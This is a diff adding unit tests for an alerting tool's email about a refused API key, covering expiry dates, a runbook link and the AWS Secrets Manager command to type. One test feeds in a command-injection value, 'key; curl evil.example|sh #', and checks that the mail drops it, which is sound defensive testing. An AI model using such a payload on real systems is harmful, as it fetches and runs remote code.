@@ -111,6 +111,67 @@ Behind:     web at 10.0.3.17 (${ID}, ${EC2}): uses the former one, last at 2026-
   });
 });
 
+describe("a mail about a token", () => {
+  const DAY_MS = 86_400_000;
+  const refused: Finding = {
+    ...{
+      subject: "shop/token",
+      cause: "KeyRefused",
+      since: NOW,
+      seenAt: NOW,
+      times: 1,
+      execution: EXECUTION,
+      version: 1,
+    },
+    facts: {
+      ...{ kind: "token", step: "PushToAuthority", said: "login.example answers 401 (invalid_client)." },
+      ...{ goodUntil: NOW + DAY_MS, formerUntil: NOW - DAY_MS, keySecret: "shop/api-key-2", nextTryAt: NOW + 900_000 },
+    },
+  };
+
+  test("says until when it is good, and the one before it, whether anybody is refused, and what to type", () => {
+    const { means, todo } = adviceFor("KeyRefused", "token");
+    expect(findingMail(refused, NOW)).toEqual({
+      subject: "Keyturn: KeyRefused on shop/token",
+      text: `What:       KeyRefused: the issuer refuses the API key
+About:      shop/token
+In:         PushToAuthority
+Since:      2026-11-20 03:00:00 UTC
+Next try:   2026-11-20 03:15:00 UTC
+Token:      good until 2026-11-21 03:00:00 UTC
+Former one: ended at 2026-11-19 03:00:00 UTC
+
+It means:   ${means}
+To do:      ${todo}
+Runbook:    docs/runbook.md, section KeyRefused
+Type:       aws secretsmanager put-secret-value --secret-id shop/api-key-2 --secret-string file://key.json
+
+Cause:      login.example answers 401 (invalid_client).
+
+Execution:  ${EXECUTION}
+${LINK}
+
+You get this once. While it stands, a mail a day gathers what is still wrong.
+`,
+    });
+    expect(means).toMatch(/Nobody is refused until the current token ends\.$/);
+  });
+
+  test("speaks of the token where a database's has the same cause", () => {
+    const told = (facts: Finding["facts"]) => findingMail({ ...refused, cause: "CredentialMismatch", facts }, NOW).text;
+    expect(told({ kind: "token" })).toContain("What:       CredentialMismatch: the API refuses the current token\n");
+    expect(told({ kind: "token" })).toContain("Type:       aws secretsmanager rotate-secret --secret-id shop/token\n");
+    expect(told({})).toContain("the database refuses");
+  });
+
+  test("types the ARN of a key's secret, and nothing that is none", () => {
+    const told = (keySecret: string) => findingMail({ ...refused, facts: { kind: "token", keySecret } }, NOW).text;
+    const arn = "arn:aws:secretsmanager:eu-west-1:111122223333:secret:shop/api-key-2-AbCdEf";
+    expect(told(arn)).toContain(` --secret-id ${arn} --secret-string `);
+    expect(told("key; curl evil.example|sh #")).not.toMatch(/curl|put-secret-value/);
+  });
+});
+
 test.each(Object.keys(ADVICE))("a mail about %s has all its parts, though nothing else is known", (cause) => {
   const { subject, text } = findingMail({ ...stale, cause, facts: {} }, NOW);
   const { title, means, todo, section, command } = adviceFor(cause);
